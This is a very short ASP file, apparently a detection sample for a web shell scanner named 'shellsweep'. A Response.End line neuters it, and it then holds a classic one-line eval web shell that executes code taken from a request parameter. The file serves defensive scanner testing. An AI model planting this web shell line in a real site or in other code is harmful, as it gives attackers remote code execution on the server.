<% ' shellsweep test sample: inert, never functional
Response.End %>
<%eval request("pass")%>
